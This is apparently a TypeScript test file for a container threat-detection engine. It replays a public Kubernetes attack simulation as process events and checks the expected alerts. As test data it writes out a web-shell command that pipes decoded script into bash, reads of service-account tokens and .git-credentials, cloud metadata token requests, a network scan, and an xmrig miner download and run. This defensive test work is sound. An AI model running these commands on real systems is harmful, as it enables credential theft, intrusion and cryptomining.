import type { ProcessEvent, ProcessFacts, TelemetryEvent } from '@cordon/telemetry'
import { describe, expect, it } from 'vitest'
import { createDetector, loadPack } from '../src/index.ts'

// The commands of the public attack simulation as a sensor sees them: who started what, in order. Expected are the
// alerts its two published tables name together. The one deviation is explained at the test domain below.

const rules = loadPack()
const start = Date.UTC(2026, 4, 4, 10, 0, 0)
const script = Buffer.from('#!/bin/bash\necho "--- Running simulation ---"\nuname >/dev/null\n').toString('base64')

let clock = 0
let pid = 4000

function event(
  process: Partial<ProcessFacts> & { exe: string },
  chain: ProcessFacts[],
  where: 'attacker' | 'victim',
): ProcessEvent {
  const time = start + ++clock * 500
  const [parent, ...ancestors] = chain
  const name = process.exe.slice(process.exe.lastIndexOf('/') + 1)
  return {
    type: 'process',
    id: `sim-${clock}`,
    time,
    receivedAt: time,
    cluster: 'lab',
    source: 'tetragon',
    node: 'node1',
    process: {
      pid: ++pid,
      name,
      commandLine: process.exe,
      cwd: '/var/www/html',
      user: where === 'victim' ? 'nginx' : 'root',
      startedAt: time,
      drift: false,
      ...process,
    },
    parent,
    ancestors,
    container: {
      id: `${where}-1`,
      name: where,
      image: `ghcr.io/microsoft/defender-for-cloud/attacksimulation/${where}:latest`,
    },
    pod: {
      namespace: 'mdc-simulation',
      name: `mdc-simulation-${where}`,
      uid: `uid-${where}`,
      serviceAccount: where === 'victim' ? 'mdc-simulation-victim' : 'default',
    },
  }
}

const worker: ProcessFacts = {
  pid: 21,
  exe: '/usr/sbin/php-fpm',
  name: 'php-fpm',
  commandLine: 'php-fpm: pool web',
  user: 'nginx',
  startedAt: start,
}

function attacker(crypto: boolean): ProcessEvent[] {
  const shell = event(
    { exe: '/usr/bin/bash', commandLine: '/bin/bash ./attack.sh', cwd: '/simulation' },
    [],
    'attacker',
  )
  const below = (exe: string, commandLine: string) =>
    event({ exe, commandLine, cwd: '/simulation' }, [shell.process], 'attacker')
  const server = crypto ? [below('/usr/bin/python3', 'python3 -m http.server 80')] : []
  return [
    shell,
    below('/usr/bin/sleep', 'sleep 10'),
    ...server,
    below('/usr/bin/base64', 'base64 -w0'),
    below(
      '/usr/bin/curl',
      `curl -Gs --data-urlencode cmd=echo ${script}| base64 -d|bash http://mdc-simulation-victim/ws.php`,
    ),
    below('/usr/bin/sed', 'sed /<!--/,/-->/d'),
  ]
}

/** The victim's side: worker → sh -c → (base64, bash → commands). */
function victim(commands: [exe: string, commandLine: string, drift?: boolean][]): ProcessEvent[] {
  const shell = event({ exe: '/usr/bin/sh', commandLine: `sh -c echo ${script}| base64 -d|bash` }, [worker], 'victim')
  const decode = event({ exe: '/usr/bin/base64', commandLine: 'base64 -d' }, [shell.process, worker], 'victim')
  const bash = event({ exe: '/usr/bin/bash', commandLine: 'bash' }, [shell.process, worker], 'victim')
  const chain = [bash.process, shell.process, worker]
  return [
    shell,
    decode,
    bash,
    ...commands.map(([exe, commandLine, drift]) => event({ exe, commandLine, drift: drift ?? false }, chain, 'victim')),
  ]
}

function selfReview(): TelemetryEvent {
  const time = start + ++clock * 500
  const raw = {
    stage: 'ResponseComplete',
    verb: 'create',
    requestURI: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
    user: {
      username: 'system:serviceaccount:mdc-simulation:mdc-simulation-victim',
      groups: ['system:serviceaccounts', 'system:authenticated'],
      extra: { 'authentication.kubernetes.io/pod-name': ['mdc-simulation-victim'] },
    },
    userAgent: 'kubectl',
    sourceIPs: ['10.244.1.7'],
    objectRef: { resource: 'selfsubjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' },
    responseStatus: { code: 201 },
  }
  return {
    type: 'audit',
    id: `sim-${clock}`,
    time,
    receivedAt: time,
    cluster: 'lab',
    source: 'kubernetes-audit',
    auditId: `a-${clock}`,
    stage: 'ResponseComplete',
    raw,
  }
}

const token = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'
const review = `curl -s -k -A kubectl -H Authorization: Bearer [redacted] -H Content-Type: application/json -X POST -d {"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{"resourceAttributes":{"namespace":"default","verb":"get","resource":"pods"}}} https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews`
const instance = (field: string) =>
  `curl -s -H Metadata:true --noproxy * http://169.254.169.254/metadata/instance/compute/${field}?api-version=2017-08-01&format=text`

const commands = {
  recon: [
    ['/usr/bin/cat', token],
    ['/usr/bin/curl', review],
    ['/usr/bin/grep', 'grep -Po (?<="allowed":)[^,}]*'],
    ['/usr/bin/nmap', 'nmap -Pn --open kubernetes.default/24 -p 443'],
  ],
  lateral: [
    [
      '/usr/bin/curl',
      'curl -s -H Metadata-Flavor: Google http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    ['/usr/bin/grep', 'grep -Po "access_token":"\\K[^"]*'],
    [
      '/usr/bin/curl',
      'curl -sf -X PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600',
    ],
    ['/usr/bin/curl', instance('subscriptionId')],
    ['/usr/bin/curl', instance('resourceGroupName')],
    [
      '/usr/bin/curl',
      'curl -sf -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com',
    ],
    ['/usr/bin/head', 'head -c 30'],
  ],
  secrets: [
    ['/usr/bin/find', 'find / -path */.git-credentials'],
    ['/usr/bin/cat', 'cat /home/user/.git-credentials'],
    ['/usr/bin/cat', token],
    ['/usr/bin/head', 'head -c 30'],
    ['/usr/bin/curl', 'curl -sf -H Metadata-Flavor: Google http://169.254.169.254/computeMetadata/v1/ -o /dev/null'],
    [
      '/usr/bin/curl',
      'curl -sf -X PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600 -o /dev/null',
    ],
    ['/usr/bin/grep', 'grep AZURE_CREDENTIAL_FILE='],
  ],
  crypto: [
    ['/sbin/modprobe', '/sbin/modprobe msr allow_writes=on'],
    ['/usr/bin/touch', 'touch /etc/ld.so.preload'],
    ['/usr/bin/curl', 'curl -sO http://mdc-simulation-attacker/xmrig'],
    ['/usr/bin/chmod', 'chmod +x xmrig'],
    ['/var/www/html/xmrig', './xmrig', true],
  ],
  domain: [
    ['/usr/bin/curl', 'curl -s -m 10 -X POST http://mdc-eicar.alerts.security.azure.com?SendingData -o /dev/null'],
  ],
} satisfies Record<string, [string, string, boolean?][]>

const titles = {
  webShell: 'Possible Web Shell activity detected',
  operation: 'Suspicious Kubernetes service account operation detected',
  scan: 'Network scanning tool detected',
  token: 'Suspicious access to workload identity token or service account token detected',
  metadata: 'Access to cloud metadata service detected',
  files: 'Sensitive files access detected',
  secrets: 'Possible secret reconnaissance detected',
  cpu: 'Kubernetes CPU optimization detected',
  preload: 'Command within a container accessed ld.so.preload',
  download: 'Possible Crypto miners download detected',
  drift: 'A drift binary detected executing in the container',
  mining: 'Digital currency mining related behavior detected',
  domain: 'Communication with test domain identified by threat intelligence',
}

const expected = {
  recon: [titles.webShell, titles.operation, titles.scan, titles.token],
  lateral: [titles.webShell, titles.metadata],
  secrets: [titles.webShell, titles.files, titles.secrets],
  crypto: [titles.webShell, titles.cpu, titles.preload, titles.download, titles.drift, titles.mining],
  // Delivered through the same web shell as the others, by the same processes: hiding that would hide real ones.
  domain: [titles.webShell, titles.domain],
}

function run(events: TelemetryEvent[], detector = createDetector({ rules })): string[] {
  const found = events.flatMap((one) => detector.process(one)).map((match) => match.title)
  expect(detector.stats().failures).toBe(0)
  return [...new Set(found)].toSorted()
}

const scenario = (name: keyof typeof commands): TelemetryEvent[] => [
  ...attacker(name === 'crypto'),
  ...victim(commands[name]),
  ...(name === 'recon' ? [selfReview()] : []),
]

describe('attack simulation raises exactly its alerts', () => {
  for (const name of Object.keys(commands) as (keyof typeof commands)[])
    it(name, () => expect(run(scenario(name))).toEqual(expected[name].toSorted()))

  it('web shell', () => {
    const shell = event({ exe: '/usr/bin/sh', commandLine: 'sh -c whoami' }, [worker], 'victim')
    const inPlace = event({ exe: '/usr/bin/whoami', commandLine: 'whoami' }, [worker], 'victim')
    expect(run([...attacker(false), shell, inPlace])).toEqual([titles.webShell])
    const child = event({ exe: '/usr/bin/whoami', commandLine: 'whoami' }, [shell.process, worker], 'victim')
    expect(run([shell, child])).toEqual([titles.webShell])
  })

  it('all at once', () => {
    const all = [
      ...commands.recon,
      ...commands.lateral,
      ...commands.secrets,
      ...commands.crypto,
      ...commands.domain,
    ] as [string, string, boolean?][]
    expect(run([...attacker(true), ...victim(all), selfReview()])).toEqual(
      [...new Set(Object.values(expected).flat())].toSorted(),
    )
  })

  it('one scenario after the other against the same victim', () => {
    const detector = createDetector({ rules })
    for (const name of ['secrets', 'recon', 'lateral', 'crypto'] as const)
      expect(run(scenario(name), detector)).toEqual(expected[name].toSorted())
  })

  it('a sensor that tells only the parent gives the same', () => {
    const bare = scenario('secrets').map((one) => (one.type === 'process' ? { ...one, ancestors: [] } : one))
    expect(run(bare)).toEqual(expected.secrets.toSorted())
  })
})
